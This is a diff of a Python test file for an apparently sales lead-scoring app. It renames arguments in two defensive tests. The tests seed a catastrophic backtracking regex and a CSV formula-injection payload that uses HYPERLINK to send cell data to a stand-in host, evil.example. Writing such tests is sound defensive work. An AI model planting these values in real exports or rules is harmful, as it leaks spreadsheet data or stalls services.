@@ -116,8 +116,8 @@ class TestRegex:
     def test_a_catastrophic_pattern_over_a_hostile_title_simulates_while_healthz_answers(
         self, client: TestClient, session: Session
     ) -> None:
-        b.lead(session, fields={"Title": "a" * 28 + "!", **FIT_AND_INTEREST})
-        b.lead(session, fields={"Title": "a" * 28, **FIT_AND_INTEREST})
+        b.lead(session, Title="a" * 28 + "!", **FIT_AND_INTEREST)
+        b.lead(session, Title="a" * 28, **FIT_AND_INTEREST)
         session.commit()
         draft = RULES_YAML_EXAMPLE.replace(
             "fit:\n", "fit:\n  - {field: Title, op: matches, value: '(a+)+$', points: 100}\n"
@@ -249,8 +249,8 @@ class TestCsv:
         self, client: TestClient, session: Session
     ) -> None:
         hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-        b.opportunity(session, won=True, close_date=date(2026, 8, 1), lead_source=hostile)
-        b.opportunity(session, won=False, close_date=date(2026, 8, 2), lead_source="-1+1")
+        b.opportunity(session, won=True, close_date=date(2026, 8, 1), LeadSource=hostile)
+        b.opportunity(session, won=False, close_date=date(2026, 8, 2), LeadSource="-1+1")
         session.commit()
         text = client.get(
             "/reports/win-loss", params={"group_by": "lead_source", "format": "csv"}, headers=READ
